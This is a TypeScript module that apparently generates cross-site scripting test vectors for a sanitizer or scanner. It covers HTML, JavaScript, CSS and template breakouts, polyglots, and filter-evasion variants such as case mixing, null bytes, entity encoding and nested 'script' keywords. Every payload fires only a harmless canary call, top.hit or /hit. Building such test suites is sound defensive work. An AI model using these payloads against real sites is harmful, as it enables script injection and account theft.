/**
 * Values of an attacker, for every place in a page: each calls `top.hit(n)` or loads `/hit?n` where it gets through.
 * `{js}` and `{url}` stand for the two.
 */
import { addressVectors } from "./xss-addresses.ts";
import { markupVectors } from "./xss-markup.ts";

const tab = "\t";
const nul = "\0";
const lineSeparator = "\u2028";
const paragraphSeparator = "\u2029";
const byteOrderMark = "\ufeff";
const highSurrogate = "\ud83c";

/** Ends of quotes, comments, elements and tags. */
const breakouts = [
  ...['"', "'", "`", '\\"', "\\'", '""', "''", "", "x", "x/", `x${tab}`, "x\f", "x\n", `x${nul}`].flatMap(
    (end) => [
      `${end} onmouseover={js} onclick={js} onfocus={js} tabindex=1 `,
      `${end}onmouseover="{js}" onerror='{js}' src=x `,
      `${end}><img src=x onerror={js}>`,
    ],
  ),
  ...["script", "style", "title", "textarea", "noscript", "select", "table", "iframe", "xmp"].map(
    (name) => `</${name}><img src=x onerror={js}>`,
  ),
  ...["template", "option", "svg", "math", "button", "noembed", "noframes", "plaintext", "p"].map(
    (name) => `</${name}/><svg onload={js}>`,
  ),
  ...[
    "</script >",
    "</script\n>",
    "</script/x>",
    "</SCRIPT\f>",
    "<\\/script>",
    "</scr\0ipt>",
    "< /script>",
  ].map((end) => `${end}<script>{js}</script>`),
  ...["-->", "--!>", ">", "->", "--\n>", "- ->", "--><!--", "]]>", "?>", "%>", "--!><", "<!-->"].map(
    (end) => `${end}<img src=x onerror={js}>`,
  ),
  ...["<!--", "<!-- <script>", "<!--<script", "<![CDATA[", "<?", "<!", "</", "<", "--", "<!doctype"].map(
    (begin) => `${begin} {js} <img src=x onerror={js}>`,
  ),
];

/** What breaks out of strings, templates, comments and values of JavaScript and JSON. */
const scripts = [
  ..."' \" ` \\' \\\" \\` \\\\' \\\\\" \\u0027 \\x27 \\47 &#39; &quot; &apos; &#x27 %27 %22"
    .split(" ")
    .flatMap((quote) => [`${quote};{js};//`, `${quote}-{js}-${quote}`, `${quote});{js};(${quote}`]),
  "{js}",
  "0;{js}",
  "0,{js}",
  "1){js}(1",
  "[{js}]",
  "/{js}/",
  "*/{js}/*",
  "\n{js}\n",
  "\r{js}//",
  `${lineSeparator}{js}//`,
  `${paragraphSeparator}{js}//`,
  "//\n{js}",
  "\\\n{js}//",
  "\\",
  `\${{js}}`,
  "$",
  "{{js}}",
  `$\\{{js}}`,
  "`+{js}+`${",
  "}{js};{",
  "};{js};if(0){",
  "});{js};(()=>{",
  "<!--\n{js}//-->",
  "-->\n{js}",
  "]]>{js}",
  "</script><script>{js}//",
  '"}</script><script>{js}</script>',
  '","x":{js},"y":"',
  '"}];{js};[{"',
  '\\"};{js};//',
  '{"__proto__":{"toString":"{js}"}}',
  '__proto__":{js},"',
  "constructor.constructor('{js}')()",
  "alert(1);{js}",
  "top['hi'+'t'](1)",
  "onerror=top.hit;throw 1",
  "apos;);{js};(&apos;",
  "quot;);{js};(&quot;",
  "#39;);{js}//",
  "lt;img src=x onerror={js}&gt;",
  "colon;{js}",
  "{js}\u0000",
  `${highSurrogate};{js}`,
];

/** What breaks out of values, strings, URLs and rules of CSS. */
const styles = [
  "red;background:url({url})",
  "red}*{background:url({url})}",
  "red}body{background:url('{url}')}a{",
  "red}@import '{url}';{",
  "}@import url({url});",
  "@import '{url}'",
  "url({url})",
  "URL( '{url}' )",
  "url(javascript:{js})",
  "u\\rl({url})",
  "\\75 rl({url})",
  "\\75\\72\\6c({url})",
  "u/**/rl({url})",
  "image({url})",
  "image-set('{url}' 1x)",
  "-webkit-image-set(url({url}) 1x)",
  "cross-fade(url({url}), url({url}))",
  "src('{url}')",
  "var(--x, url({url}))",
  "attr(title url)",
  "expression({js})",
  "exp/**/ression({js})",
  "\\65xpression({js})",
  "-moz-binding:url({url}#x)",
  "behavior:url({url})",
  "'}*{background:url({url})}",
  '"}*{background:url({url})}',
  "');background:url({url});x:('",
  '");background:url({url});x:("',
  ");background:url({url});x:(",
  "\\');background:url({url})",
  "\\22;background:url({url})",
  "\\\n;background:url({url})",
  "\n;background:url({url});",
  "\f}*{background:url({url})}",
  "*/}*{background:url({url})}/*",
  "/*",
  "<!--}*{background:url({url})}-->",
  "red!important;background-image:url({url})",
  "x;cursor:url({url}),auto;list-style:url({url})",
  "</style><img src=x onerror={js}>",
  "</style/><svg/onload={js}>",
  "{}*{background:url({url})}",
  "(;background:url({url})",
  "[;background:url({url})",
];

/** Several places at once, and what encodings made of text. */
const polyglots = [
  "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{js}//'>",
  `'"\`><img src=x onerror={js}>{{7*7}}\${{js}}<!--`,
  "\"'--></noscript></style></script><details open ontoggle={js}>",
  "*/;{js};/*\"'`--><svg onload={js}>",
  "';{js}//\";{js}//`;{js}//--></script><script>{js}</script>",
  `#{{js}}{{{js}}}<%={js}%>\${{js}}@({js})`,
  "{{ constructor.constructor('{js}')() }}",
  "{% set x = 1 %}{{ x }}<script>{js}</script>{# #}",
  "{{'<script>{js}</script>'|safe}}",
  "+ADw-script+AD4-{js}+ADw-/script+AD4-",
  "\u00bcscript\u00be{js}\u00bc/script\u00be",
  "\uff1cscript\uff1e{js}\uff1c/script\uff1e",
  "\u2039img src=x onerror={js}\u203a",
  "%253Cscript%253E{js}%253C/script%253E",
  "&lt;script&gt;{js}&lt;/script&gt;",
  "&amp;lt;script&amp;gt;{js}",
  "\x1b$B<script>{js}</script>\x1b(B",
  `${highSurrogate}"><script>{js}</script>`,
  `\udf40' onmouseover='{js}`,
  "https://127.0.0.1:1/<script>{js}</script>",
  'www.example.com/"onmouseover="{js}',
  "http://127.0.0.1:1/'><img src=x onerror={js}>",
  'mailto:a@example.com"onclick={js}',
  "a@example.com?subject=<script>{js}</script>",
];

const bases: readonly string[] = [
  ...markupVectors,
  ...breakouts,
  ...scripts,
  ...styles,
  ...addressVectors,
  ...polyglots,
];

const changeOutsideOfCode = (text: string, change: (part: string) => string): string =>
  text.replace(/top\.hit\(\d+\)|\/hit\?\d+|[^/t]+|./gs, (part) =>
    part.startsWith("top.hit(") || part.startsWith("/hit?") ? part : change(part),
  );

const references = (text: string, spelled: (code: number) => string): string =>
  text.replace(/[<>"'`&:=]/g, (character) => spelled(character.charCodeAt(0)));

type Variant = (text: string) => string;

/** What filters of the past were talked around with. */
const variants: readonly Variant[] = [
  (text) => changeOutsideOfCode(text, (part) => part.toUpperCase()),
  (text) =>
    changeOutsideOfCode(text, (part) =>
      part.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase())),
    ),
  (text) => ` \n\t${text}\r\n `,
  (text) => `${text}${nul}`,
  (text) => nul + text,
  (text) => byteOrderMark + text,
  (text) => lineSeparator + text + paragraphSeparator,
  (text) => `${highSurrogate}${text}\udf40\ud800`,
  (text) => `"'\`>${text}`,
  (text) => `\\"\\'${text}`,
  (text) => `--></script></style></title></textarea></noscript>${text}`,
  (text) => `https://127.0.0.1:1/${text}`,
  (text) => `${text}<!--`,
  (text) => `${text} //`,
  (text) => `${text}\\`,
  (text) => text + text,
  (text) => references(text, (code) => `&#${code};`),
  (text) => references(text, (code) => `&#x${code.toString(16)}`),
  (text) => references(text, (code) => `\\x${code.toString(16)}`),
  (text) => references(text, (code) => `\\u00${code.toString(16)}`),
  (text) => references(text, (code) => `\\${code.toString(16)} `),
  (text) => encodeURIComponent(text.toWellFormed()),
  (text) => text.replaceAll(" ", "/"),
  (text) => text.replaceAll(" ", "\f"),
  (text) => text.replaceAll("<", `<${nul}`),
  (text) => text.replaceAll("<", "<<").replaceAll("script", "scrscriptipt"),
  (text) => text.replaceAll(/(script|img|svg|on\w+)/g, `$1${tab}`),
];

/** Variants of each vector, besides the vector itself: others for each, so that every one is used for every kind. */
const EACH = 4;

function withNumber(text: string, number: number): string {
  return text.replaceAll("{js}", `top.hit(${number})`).replaceAll("{url}", `/hit?${number}`);
}

/** All values, none twice. The number that a value calls `hit` with is that of its base. */
export const vectors: readonly string[] = [
  ...new Set(
    bases.flatMap((base, number) => {
      const text = withNumber(base, number);
      const own = Array.from({ length: EACH }, (_, index) => {
        const variant = variants[(number * EACH + index) % variants.length] as Variant;
        return variant(text);
      });
      return [text, ...own];
    }),
  ),
];
